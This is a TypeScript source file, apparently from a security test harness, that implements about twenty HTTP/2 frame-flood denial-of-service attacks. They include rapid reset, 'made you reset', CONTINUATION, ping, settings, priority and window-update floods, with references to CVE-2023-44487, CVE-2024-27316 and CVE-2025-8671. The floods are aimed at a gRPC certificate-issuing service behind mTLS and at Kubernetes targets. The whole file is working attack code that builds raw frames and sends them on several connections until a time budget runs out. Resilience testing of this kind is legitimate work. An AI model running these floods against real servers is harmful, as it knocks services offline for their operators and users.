/** Floods of frames (CVE-2023-44487, CVE-2024-27316, CVE-2025-8671 and their relatives). */
import type { RawConnection } from "../http2/connection.ts";
import {
  concat,
  data,
  frame,
  frameFlag,
  frameType,
  headers,
  ping,
  priority,
  repeat,
  rstStream,
  setting,
  settings,
  settingsAck,
  windowUpdate,
} from "../http2/frames.ts";
import { grpcHeaders, grpcMessage, issueMessage, methodPaths } from "../http2/grpc_request.ts";
import { encodeHeaders, literal } from "../http2/hpack.ts";
import { repeatInParallel } from "../harness/repetition.ts";
import type { Attack, ServiceRow } from "../harness/row.ts";

/** Makes the next piece that is written; `undefined` ends the connection. */
type Flood = (attack: Attack, connection: RawConnection) => () => Uint8Array | undefined;

const connections = 4;
const piece = 500;

/** Frames that open a stream with an issue call, whole or without its end. */
function callOn(attack: Attack, stream: number, { isWhole = true } = {}): Uint8Array {
  const block = encodeHeaders(grpcHeaders(methodPaths.issue, attack.credentials));
  const message = grpcMessage(issueMessage(attack.service.certificateRequest));
  return concat(headers(stream, block), ...isWhole ? [data(stream, message)] : []);
}

/** The same frames on stream 0 or on no stream at all. */
function constant(bytes: Uint8Array, times = piece): Flood {
  const repeated = repeat(bytes, times);
  return () => () => repeated;
}

/** New streams, each with the frames that are made for it. */
function perStream(make: (stream: number, attack: Attack) => Uint8Array, streams = 50): Flood {
  return (attack, connection) => () =>
    concat(...Array.from({ length: streams }, () => make(connection.nextStream(), attack)));
}

/** One stream that is opened first, and what follows on it. */
function onOneStream(
  open: (stream: number, attack: Attack) => Uint8Array,
  follow: (stream: number) => Uint8Array,
): Flood {
  return (attack, connection) => {
    const stream = connection.nextStream();
    let first: Uint8Array | undefined = open(stream, attack);
    const rest = repeat(follow(stream), piece);
    return () => {
      const bytes = first === undefined ? rest : concat(first, rest);
      first = undefined;
      return bytes;
    };
  };
}

const openStream = (stream: number, attack: Attack) => callOn(attack, stream, { isWhole: false });
const shortBlock = encodeHeaders([["x-a", "b"]]);

export const floods: Readonly<Record<string, Flood>> = {
  "rapid reset": perStream((stream, attack) => concat(callOn(attack, stream), rstStream(stream))),
  "rapid reset of headers": perStream(
    (stream) =>
      concat(headers(stream, encodeHeaders(grpcHeaders(methodPaths.issue))), rstStream(stream)),
    200,
  ),
  "made you reset": perStream((stream, attack) =>
    // A window that grows by nothing is the stream's error: the server resets, and has begun to work.
    concat(callOn(attack, stream), windowUpdate(stream, 0))
  ),
  "made you reset by overflow": perStream((stream, attack) =>
    concat(callOn(attack, stream), windowUpdate(stream, 0x7fff_ffff))
  ),
  "continuation": onOneStream(
    (stream) => headers(stream, shortBlock, { endHeaders: false }),
    (stream) => frame(frameType.continuation, 0, stream, literal(["x-b", "c".repeat(100)])),
  ),
  "empty continuation": onOneStream(
    (stream) => headers(stream, shortBlock, { endHeaders: false }),
    (stream) => frame(frameType.continuation, 0, stream),
  ),
  "settings": constant(settings([[setting.initialWindowSize, 65_535]])),
  "settings acknowledgements": constant(settingsAck()),
  "ping": constant(ping()),
  "ping acknowledgements": constant(ping(frameFlag.ack)),
  "priority": (_attack, connection) => () => {
    const stream = connection.nextStream() % 0x7fff_ffff;
    return repeat(priority(stream, stream === 1 ? 0 : 1), piece);
  },
  "priority on itself": constant(priority(3, 3)),
  "window update": constant(windowUpdate(0, 1)),
  "window update of nothing": constant(windowUpdate(0, 0)),
  "empty data": onOneStream(openStream, (stream) => data(stream, new Uint8Array(), false)),
  "padding only": onOneStream(openStream, (stream) => {
    const padded = new Uint8Array(256);
    padded[0] = 255;
    return frame(frameType.data, frameFlag.padded, stream, padded);
  }),
  "unknown frames": constant(frame(0xee, 0xff, 0, new Uint8Array(32))),
  "frames of 16 MB": constant(frame(frameType.data, 0, 1, new Uint8Array(64), 0xff_ffff), 1),
  "streams without end": perStream(openStream),
  "calls beyond the streams allowed": perStream((stream, attack) => callOn(attack, stream)),
};

/** Writes pieces on four connections until the time is spent, connecting again when they are closed. */
export async function flood(attack: Attack, make: Flood, polite = true): Promise<string> {
  let bytes = 0;
  let opened = 0;
  await repeatInParallel(attack, connections, async (_, sequence) => {
    const connection = await attack.connect({ polite }, sequence).catch(() => undefined);
    if (connection === undefined) return;
    opened++;
    const next = make(attack, connection);
    while (!attack.isSpent() && attack.isAlive()) {
      const piece = next();
      if (piece === undefined || !await connection.send(piece)) break;
      bytes += piece.length;
      // Others write too, and closes have to be noticed.
      await new Promise((resolve) => setImmediate(resolve));
    }
    connection[Symbol.dispose]();
  });
  return `${(bytes / 1024 / 1024).toFixed(1)} MiB on ${opened} connections`;
}

/** Calls as an honest client makes them, which never acknowledges anything. */
async function neverAcknowledge(attack: Attack): Promise<string> {
  return await flood(attack, (attack, connection) => () => {
    const stream = connection.nextStream();
    return stream > 400 ? undefined : callOn(attack, stream);
  }, false);
}

/** From outside, all floods are one attack: a little of each in turn. */
async function floodInTurn(attack: Attack): Promise<string> {
  const all = Object.values(floods);
  const notes: string[] = [];
  for (const make of all) {
    const end = performance.now() + attack.ms / all.length;
    const isSpent = () => performance.now() >= end;
    notes.push(await flood({ ...attack, isSpent }, make));
  }
  return notes.at(-1) ?? "";
}

/** Close relatives of other rows: not in the quick form. */
const longOnly = new Set([
  ...["made you reset by overflow", "settings acknowledgements", "priority on itself"],
  ...["window update of nothing", "padding only"],
]);

export const floodRows: readonly ServiceRow[] = [
  ...Object.entries(floods).map(([name, make]): ServiceRow => ({
    name: `flood/${name}`,
    position: "node",
    target: "mtls",
    isLong: longOnly.has(name),
    run: (attack) => flood(attack, make),
  })),
  {
    name: "flood/nothing acknowledged",
    position: "node",
    target: "mtls",
    run: neverAcknowledge,
  },
  { name: "flood/each kind", position: "unauthenticated", target: "mtls", run: floodInTurn },
  { name: "flood/each kind", position: "pod", target: "mtls", run: floodInTurn },
  { name: "flood/each kind", position: "unauthenticated", target: "kubernetes", run: floodInTurn },
];
